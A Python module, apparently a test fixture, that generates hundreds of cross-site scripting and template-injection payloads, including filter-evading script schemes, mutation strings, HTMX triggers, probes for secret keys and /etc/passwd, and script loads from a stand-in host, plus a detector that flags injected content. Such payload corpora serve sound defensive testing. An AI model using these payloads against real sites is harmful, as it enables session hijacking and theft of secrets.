"""What somebody writes who wants it to run in the browser of somebody else: `PAYLOADS`, each with `MARK` in it.

They are made of parts: what would run or load, times the place that it has to break out of, times the way in which it is
written. Each calls `zq7()` when it runs, or asks `zq7.example` for something; what is only written somewhere shows the mark.
"""

from html import escape
from itertools import product
from urllib.parse import quote

MARK = "zq7"
CALL = f"{MARK}()"
HOST = f"//{MARK}.example"
SUM = (31_300, 37)  # what a template engine would add up
ADDED = f"{sum(SUM)}{MARK}"

# What runs, or asks for something, as soon as it is an element of the page.
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script src={HOST}></script>",
    f"<script type=module>{CALL}</script>",
    f"<img src=/{MARK} onerror={CALL}>",
    f"<img/src=/{MARK}/onerror={CALL}>",
    f"<IMG SRC='{HOST}/i.png'>",
    f"<image href={HOST} onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>go</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id={MARK} xmlns=x><a/></svg>#{MARK}'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<math href='javascript:{CALL}'>go</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>go</maction></math>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<img src=x onerror=parent.{CALL}>'></iframe>",
    f"<object data={HOST}></object>",
    f"<embed src={HOST}>",
    f"<video src=/{MARK} onerror={CALL}></video>",
    f"<audio src={HOST} autoplay></audio>",
    f"<video><source onerror={CALL} src=/{MARK}></video>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>go</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<button popovertarget={MARK} autofocus onfocus={CALL}>go</button><div popover id={MARK} onbeforetoggle={CALL}></div>",
    f"<x-{MARK} tabindex=1 autofocus onfocus={CALL}>go</x-{MARK}>",
    f"<p style='animation:x' onanimationstart={CALL}>go</p>",
    f"<p style='background:url({HOST}/b)'>go</p>",
    f"<style>@import '{HOST}';</style>",
    f"<style>*{{background:url({HOST})}}</style>",
    f"<link rel=stylesheet href={HOST}>",
    f"<link rel=preload as=image href={HOST}>",
    f"<base href={HOST}/>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<form action={HOST}><button>go</button></form>",
    f"<button formaction=javascript:{CALL}>go</button>",
    f"<a href=javascript:{CALL}>go</a>",
    f"<a href={HOST} ping={HOST}>go</a><img name={MARK}>",
    f"<form id={MARK}><input name=action></form>",
    f"<marquee onstart={CALL}>go</marquee>",
    f"<frameset onload={CALL}>",
    f"<template shadowrootmode=open><img src=/{MARK} onerror={CALL}></template>",
    f"<dialog open onclose={CALL} id={MARK}>go</dialog>",
)
# What the text may stand in, and how it gets out of there.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    '\\"}]</script>',
    "</option></select>",
    "</noscript></template></svg></math></h1></p></td></table>",
)
# Attributes of an element that is there already, and handlers of its own.
HANDLERS = (
    "onclick onmouseover onfocus onload onerror onpointerenter ontoggle oninput onanimationend onscrollend".split()
)
QUOTES = ('"', "'", "", "`", "&quot;", '\\"')
# HTMX reads these; each would ask, or run, by itself.
HTMX = (
    f"hx-get={HOST} hx-trigger=load",
    f"hx-get=/accounts/logout/?{MARK} hx-trigger=load",
    f"hx-post=/{MARK}/ hx-trigger='load delay:1ms'",
    f"hx-put=/{MARK}/ hx-trigger=revealed",
    f"hx-delete=/{MARK}/ hx-trigger=every:1s",
    f"hx-patch=/{MARK}/ hx-trigger=intersect",
    f"data-hx-get=/{MARK}/ data-hx-trigger=load",
    f"data-hx-post=/{MARK}/ data-hx-trigger=load",
    f"hx-trigger=load[{CALL}] hx-get=/{MARK}/",
    f"hx-on:load={CALL}",
    f"hx-on::load={CALL}",
    f"hx-on--after-process-node={CALL}",
    f"hx-on='htmx:load: {CALL}'",
    f"data-hx-on:click={CALL}",
    f"data-hx-on::after-settle={CALL}",
    f"hx-vals='js:{{a:{CALL}}}' hx-get=/{MARK}/ hx-trigger=load",
    f"hx-vals='javascript:{CALL}' hx-get=/{MARK}/ hx-trigger=load",
    f"hx-vars=a:{CALL} hx-get=/{MARK}/ hx-trigger=load",
    f"hx-headers='js:{{a:{CALL}}}' hx-get=/{MARK}/ hx-trigger=load",
    f"hx-request='js:{CALL}' hx-get=/{MARK}/ hx-trigger=load",
    f"hx-swap-oob=true id=main data-a={MARK}",
    f"hx-swap-oob=outerHTML:{MARK}",
    f"hx-select-oob=#{MARK} hx-get=/{MARK}/",
    f"hx-ext={MARK} hx-sse=connect:{HOST}",
    f"hx-ws=connect:wss:{HOST}",
    f"hx-boost=true hx-push-url={HOST}",
    f"hx-include='[name={MARK}]' hx-target=body hx-get=/{MARK}/ hx-trigger=load",
    f"hx-confirm={MARK} hx-prompt={MARK} hx-get=/{MARK}/",
    f"hx-disable hx-history={MARK}",
    f"hx-encoding={MARK} hx-sync=this:{MARK}",
)
# The scripts that addresses may have, written so that a filter might miss them and a browser might not.
SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java\r\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"\x1fjavascript:{CALL}",
    f"javascript\t:{CALL}",
    f"javascript://{MARK}.example/%0a{CALL}",
    f"javascript:/*--></title>*/{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;vascript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"%6Aavascript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"vbscript:{CALL}",
    f"VBScript:msgbox({MARK})",
    f"livescript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,PHNjcmlwdD5{MARK}",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"data:,{MARK}",
    f"blob:{HOST}/{MARK}",
    f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}!/",
    f"\\\\{MARK}.example\\a",
    f"https:{HOST}@localhost/{MARK}",
)
# A parser reads them in one way, and what it wrote of them in another.
MUTATING = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=/{MARK} onerror={CALL}>'>",
    f"<svg></p><style><a id='</style><img src=/{MARK} onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=/{MARK} onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=/{MARK} onerror={CALL}>",
    f"<listing>&lt;img src=/{MARK} onerror={CALL}&gt;</listing><img src=/{MARK}>",
    f"<xmp><p title='</xmp><img src=/{MARK} onerror={CALL}>'>",
    f"<select><template><style><!--</style></template><a rel='--><img src=/{MARK} onerror={CALL}>'></select>",
    f"<svg><title><style><img src='</style><img src=/{MARK} onerror={CALL}>'></title></svg>",
    f"<math><annotation-xml encoding=text/html><style><img title='</style><img src=/{MARK} onerror={CALL}>'>",
    f"<textarea><title><img src=/{MARK} onerror={CALL}></title></textarea><img src=/{MARK} onerror={CALL}>",
    f"<table><td><noembed><img src=/{MARK} onerror={CALL}></noembed><img src=/{MARK} onerror={CALL}>",
    f"<a title='`\"'><img src=/{MARK} onerror={CALL}>",
    f"<!--><img src=/{MARK} onerror={CALL}>-->",
    f"<!--!><img src=/{MARK} onerror={CALL}>",
    f"<? foo='><img src=/{MARK} onerror={CALL}>'>",
    f"<![CDATA[><img src=/{MARK} onerror={CALL}>]]>",
    f"<{MARK}/onclick={CALL}>",
    f"<plaintext><img src=/{MARK}>",
    f"<iframe><!--</iframe><img src=/{MARK} onerror={CALL}>-->",
    f"<hx-partial hx-target=#main><img src=/{MARK} onerror={CALL}></hx-partial>",
    f"<hx-partial id={MARK}></hx-partial>",
)
# Out of a string, an object or a rule.
SCRIPTS = (
    f"';{CALL}//",
    f'";{CALL}//',
    f"`;{CALL}//",
    f"\\';{CALL}//",
    f'\\";{CALL}//',
    f"'-{CALL}-'",
    f'"-{CALL}-"',
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
    f"\u2028{CALL}//",
    f"\u2029{CALL}//",
    f"\n{CALL}//",
    f"\\u0027;{CALL}//",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f'"}}}}]}};{CALL}//',
    f"<!--<script>{CALL}</script>",
    f"*/{CALL}/*",
    f"}}*{{background:url({HOST})}}",
    f"expression({CALL})",
    f"url(javascript:{CALL})",
    f"-moz-binding:url({HOST}#{MARK})",
    f"\\3c script\\3e {CALL}",
    f"constructor.constructor('{CALL}')()",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"[[${{{CALL}}}]]",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    f"__proto__[{MARK}]={CALL}",
)
TEMPLATES = (
    "{{{{ {0}|add:{1} }}}}" + MARK,
    "{{% widthratio {0} 1 1 %}}" + MARK,
    "{{{{ {0} + {1} }}}}" + MARK,
    "${{{0}+{1}}}" + MARK,
    "{{% with a={0} %}}{{{{ a|add:{1} }}}}{{% endwith %}}" + MARK,
)
MORE_TEMPLATES = (
    f"{{% debug %}}{MARK}",
    f"{{{{ request.user.password }}}}{MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"{{% include '/etc/passwd' %}}{MARK}",
    f"{{% load {MARK} %}}",
    f"{{% autoescape off %}}<img src=/{MARK} onerror={CALL}>{{% endautoescape %}}",
    f"{{% endblock %}}</main><img src=/{MARK} onerror={CALL}>",
    f"{{# {MARK} #}}<img src=/{MARK} onerror={CALL}>",
    f"{{{{ '<img src=/{MARK} onerror={CALL}>'|safe }}}}",
    f"%({MARK})s %s %d {{0}} {{{MARK}}}",
)
MARKDOWN = (
    "[go]({0})",
    "[go](<{0}>)",
    "<{0}>",
    "![go]({0})",
    '[go](x "{0}")',
    "[go]: {0}\n\n[go]",
)


def made():
    """All of them; each once."""
    yield from (out + element for element, out in product(ELEMENTS, WAYS_OUT))
    yield from (f"x{quote} {name}={CALL} a={quote}" for name, quote in product(HANDLERS, QUOTES))
    yield from (f"<b {given}>go</b>" for given in HTMX)
    yield from (f"{quote} {given} a={quote}" for given, quote in product(HTMX, ('"', "'")))
    yield from SCHEMES
    yield from MUTATING
    yield from SCRIPTS
    yield from (f"</script><script>{script}</script>" for script in SCRIPTS[:13])
    yield from (template.format(*SUM) for template in TEMPLATES)
    yield from MORE_TEMPLATES
    yield from (form.format(scheme) for form, scheme in product(MARKDOWN, SCHEMES[:1] + SCHEMES[3:5] + SCHEMES[18:22]))
    for element in ELEMENTS[:20]:
        yield from (escape(element), escape(escape(element)), quote(element), element.translate(WIDE), _utf7(element))


WIDE = {ord(narrow): wide for narrow, wide in zip("<>\"'=", "＜＞＂＇＝", strict=True)}


def _utf7(text):
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


PAYLOADS = tuple(dict.fromkeys(made()))

# Given a document, everything in it that is no text any more: [what it is]. Its own scripts and handlers are none: the
# product writes no handlers into pages, and what it writes into attributes of HTMX holds nothing that people wrote.
NOTICE = """
(page) => {
  const MARK = 'zq7', found = []
  const ours = address => { try { return new URL(address, location.href) } catch { return null } }
  const runs = ['javascript:', 'vbscript:', 'data:', 'blob:', 'livescript:']
  const note = (element, why) => found.push(`${why}: ${element.cloneNode(false).outerHTML.slice(0, 300)}`)
  const look = root => {
    for (const element of root.querySelectorAll('*')) {
      const name = element.localName
      if (element.content instanceof DocumentFragment) look(element.content)
      if (name.includes(MARK) || name === 'hx-partial' || name === 'plaintext') note(element, 'element')
      if (['script', 'style'].includes(name) && element.textContent.includes(MARK) && !/json/.test(element.type))
        note(element, 'code')
      if (name === 'meta' && /refresh/i.test(element.httpEquiv)) note(element, 'refresh')
      if (name === 'base') note(element, 'base')
      for (const { name: given, value } of element.attributes) {
        if (/^(on|(data-)?hx-on)/i.test(given)) note(element, 'handler')
        if (!value.includes(MARK) && !given.includes(MARK)) continue
        if (given.includes(MARK)) note(element, 'attribute')
        // The query of an address of ours may say, encoded, what is on the page.
        const asks = /^hx-(get|post)$/.test(given) && ours(value)?.host === location.host && !value.split('?')[0].includes(MARK)
        if (/^(data-)?hx-/i.test(given) && !asks) note(element, 'htmx')
        if (['style', 'srcdoc', 'id', 'name', 'class', 'tabindex'].includes(given)) note(element, given)
        if (/^(href|xlink:href|src|srcset|action|formaction|data|poster|ping|background|content)$/i.test(given)) {
          const to = ours(value), leads = name === 'a' && /^href$/i.test(given)
          if (given !== 'content' && to && runs.includes(to.protocol)) note(element, 'address')
          if (given !== 'content' && !leads && to && to.host !== location.host) note(element, 'elsewhere')
          if (given === 'src') note(element, 'loads')
        }
      }
    }
  }
  look(page)
  return found
}
"""
